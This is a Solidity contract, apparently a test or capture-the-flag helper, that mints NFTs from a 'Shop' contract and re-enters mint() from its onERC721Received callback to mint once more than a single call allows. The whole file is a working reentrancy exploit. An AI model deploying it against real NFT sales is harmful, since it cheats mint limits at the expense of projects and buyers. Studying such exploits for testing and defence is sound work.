// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {IERC721Receiver} from '@openzeppelin/contracts/token/ERC721/IERC721Receiver.sol';

interface Shop {
    function mint() external payable returns (uint256);
}

/// Mints postcards, and once more from inside its last mint.
contract Collector is IERC721Receiver {
    Shop private shop;
    uint256 private left;

    function collect(Shop shop_, uint256 count) external payable {
        shop = shop_;
        left = count;
        for (uint256 i = 1; i < count; i++) mint();
    }

    function mint() private {
        left--;
        shop.mint{value: 2 ether}();
    }

    function onERC721Received(address, address, uint256, bytes calldata) external returns (bytes4) {
        if (left == 1) mint();
        return IERC721Receiver.onERC721Received.selector;
    }
}
